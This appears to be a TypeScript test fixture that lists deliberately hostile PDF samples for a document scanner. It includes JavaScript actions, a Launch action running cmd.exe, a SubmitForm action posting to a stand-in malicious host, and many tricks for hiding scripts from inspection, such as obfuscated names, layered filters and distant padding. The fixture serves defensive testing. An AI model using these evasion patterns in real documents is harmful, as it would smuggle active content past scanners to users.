import { deflateSync } from 'node:zlib'
import { packedPdf } from './active-parts.ts'
import { pdf } from './good-documents.ts'
import { type HostileDocument, listed, SAID } from './refusals.ts'

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>'
const FAR = 'x'.repeat(200_000)
const hex = (text: string) => Buffer.from(`${deflateSync(text).toString('hex')}>`)

/** PDFs that do something, where a glance at their bytes does not show it. */
export const ACTIVE_PDFS: HostileDocument[] = [
  ...listed(SAID.pdfScript, {
    'a PDF with a packed script': packedPdf(SCRIPT),
    'a PDF with a packed script after megabytes': packedPdf(`(${FAR.repeat(20)}) ${SCRIPT}`),
    'a PDF whose packed script two pieces share': packedPdf(
      `(${'x'.repeat(65_512)}) << /S /JavaScript >>`,
    ),
    'a PDF whose packed script is disguised': packedPdf('<< /S /J#61vaScript /J#53 (x) >>'),
    'a PDF whose packed action does not say what it is': packedPdf(
      '<< /S 5 0 R /JS (app.alert(1)) >>',
    ),
    'a PDF whose packed objects have a disguised type': packedPdf(SCRIPT, {
      dictionary: '/Type /Obj#53tm /N 2 /First 11 /Filter /Fl#61teDecode',
    }),
    'a PDF whose packed objects have no type': packedPdf(SCRIPT, {
      dictionary: '/N 2 /First 11 /Filter [ /FlateDecode ]',
    }),
    'a PDF whose second object stream has the script': Buffer.concat([
      packedPdf('<< /Title (x) >>'),
      packedPdf(SCRIPT).subarray(15),
    ]),
  }),
  ...listed(SAID.pdfLaunch, {
    'a PDF that starts a program, packed': packedPdf('<< /S /Launch /F (cmd.exe) >>'),
    'a PDF that opens a file inside of it': pdf(['<< /S /GoToE /T << /R /C >> >>']),
  }),
  ...listed(SAID.pdfAttachment, {
    'a PDF with another file inside, packed': packedPdf('<< /Names << /EmbeddedFiles 5 0 R >> >>'),
  }),
  ...listed(SAID.pdfForm, {
    'a PDF with a form of another kind': pdf(['<< /AcroForm << /XFA [(a) 5 0 R] >> >>']),
    'a PDF with a form of another kind, packed': packedPdf('<< /XFA 7 0 R >>'),
    'a PDF that sends what is written in it': pdf([
      '<< /S /SubmitForm /F (https://mal.example/) >>',
    ]),
    'a PDF that fetches data': pdf(['<< /S /ImportData /F (x.fdf) >>']),
  }),
  ...listed(SAID.pdfMedia, {
    'a PDF with an animation': pdf(['<< /Subtype /RichMedia >>']),
    'a PDF that plays something': packedPdf('<< /S /Rendition /JS (x) >>'),
  }),
  ...listed(SAID.pdfUnreadable, {
    'a PDF whose objects are packed twice': packedPdf('', {
      packed: hex(SCRIPT),
      dictionary: '/Type /ObjStm /N 1 /First 0 /Filter [/ASCIIHexDecode /FlateDecode]',
    }),
    'a PDF whose objects are packed twice the other way': packedPdf(SCRIPT, {
      dictionary: '/Type /ObjStm /N 1 /First 0 /Filter [/FlateDecode /ASCIIHexDecode]',
    }),
    'a PDF whose objects have two filters': packedPdf(SCRIPT, {
      dictionary: '/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Filter /LZWDecode',
    }),
    'a PDF whose filter stands elsewhere': packedPdf(SCRIPT, {
      dictionary: '/Type /ObjStm /N 1 /First 0 /Filter 9 0 R',
    }),
    'a PDF whose objects were changed before': packedPdf(SCRIPT, {
      dictionary:
        '/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
    }),
    'a PDF whose objects are in another file': packedPdf('', {
      packed: Buffer.from('x'),
      dictionary: '/Type /ObjStm /N 1 /First 0 /F (otro.pdf)',
    }),
    'a PDF that hides the beginning of its object stream': packedPdf('', {
      packed: hex(SCRIPT),
      before: '/Filter [/ASCIIHexDecode /FlateDecode] /X (1 0 obj <<) ',
      dictionary: '/N 1 /First 0',
    }),
    'a PDF that hides it in a comment': packedPdf('', {
      packed: hex(SCRIPT),
      before: '/Filter [/ASCIIHexDecode /FlateDecode] % 1 0 obj <<\n',
      dictionary: '/N 1 /First 0',
    }),
    'a PDF whose object stream begins far away': packedPdf(SCRIPT, {
      before: `/X [${'1 '.repeat(9_000)}] `,
    }),
    'a PDF whose object stream ends far away': packedPdf(SCRIPT, {
      dictionary: `/Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /X [${'1 '.repeat(9_000)}]`,
    }),
  }),
  ...listed(SAID.damagedPdf, {
    'a PDF whose packed objects do not unpack': packedPdf('', { packed: Buffer.from('no') }),
  }),
]
